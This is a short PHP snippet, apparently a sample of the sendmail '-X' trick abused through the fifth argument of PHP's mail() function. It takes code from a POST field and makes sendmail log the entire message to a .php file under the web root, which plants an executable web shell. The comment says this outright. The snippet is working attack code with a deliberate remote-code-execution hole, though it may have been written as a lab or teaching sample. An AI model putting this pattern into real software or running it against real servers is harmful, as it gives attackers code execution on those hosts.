<?php
// sendmail's -X option through mail()'s fifth argument: the whole message, the PHP code sent
// in the request included, is logged to a .php file under the web root.
$code = $_POST['note'];
mail('orders@example.test', 'Order note', $code, 'From: shop@example.test',
     '-OQueueDirectory=/tmp -X' . __DIR__ . '/media/notes.php');
